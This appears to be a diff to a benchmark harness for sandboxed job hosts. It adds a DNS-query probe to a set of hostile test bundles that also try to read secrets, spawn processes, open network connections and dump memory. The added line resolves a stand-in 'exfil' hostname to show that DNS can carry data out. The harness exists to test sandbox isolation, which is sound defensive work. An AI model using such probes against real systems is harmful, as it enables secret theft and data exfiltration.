@@ -18,7 +18,7 @@
  *    the first 3 s uncounted; event-time latency = alert read − the transaction's scheduled time (its event time).
  * Ratios are of medians over the rounds (sandboxed ÷ open). Then the hostile bundles, each in a sandboxed job host:
  * load-time probes (environment secret, spawn, thread, a machine file, the other job hosts' folders, a write
- * outside its folder, TCP to Postgres, Redis, S3 and the platform's Kafka listener, an HTTP fetch, UDP, the S3 secret in its environment, a heap
+ * outside its folder, TCP to Postgres, Redis, S3 and the platform's Kafka listener, an HTTP fetch, UDP, a DNS query, the S3 secret in its environment, a heap
  * snapshot) reported by the job itself, and a job that loops forever and one
  * that allocates without end (stopped by the stall and heap limits, set to 4 s and 128 MiB here), and one that emits a
  * 20 MiB record (refused by its sink). A probe counts as
@@ -175,6 +175,7 @@ async function measure(variant: Variant, index: number, dir: string, rate: () =>
 const PROBE_SOURCE = (input: string, output: string) => `
 import { execSync } from 'node:child_process';
 import { createSocket } from 'node:dgram';
+import { resolve4 } from 'node:dns';
 import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { connect } from 'node:net';
 import { dirname } from 'node:path';
@@ -204,6 +205,7 @@ try {
   fetch('http://127.0.0.1:6379/').then(() => { met['fetch from Redis (HTTP)'] = 'ran'; }, (err: { cause?: { code?: string }; message: string }) => { met['fetch from Redis (HTTP)'] = err.cause?.code ?? err.message; });
 } catch (err) { met['fetch from Redis (HTTP)'] = (err as { code?: string }).code ?? String((err as Error).message); }
 attempt('send UDP (DNS to 8.8.8.8)', () => createSocket('udp4').send('x', 53, '8.8.8.8'));
+attempt('resolve a name of its own (a DNS query carries data out)', () => resolve4('exfil-${run}.example.com', () => undefined));
 attempt('read the S3 secret in its environment', () => { if (!process.env.WEIR_S3_SECRET_ACCESS_KEY) throw Object.assign(new Error('absent'), { code: 'ABSENT' }); });
 attempt("dump the job host's memory (heap snapshot)", () => writeHeapSnapshot());
 export default defineJob({ name: 'hostile', maxParallelism: 8 }, (job) => {
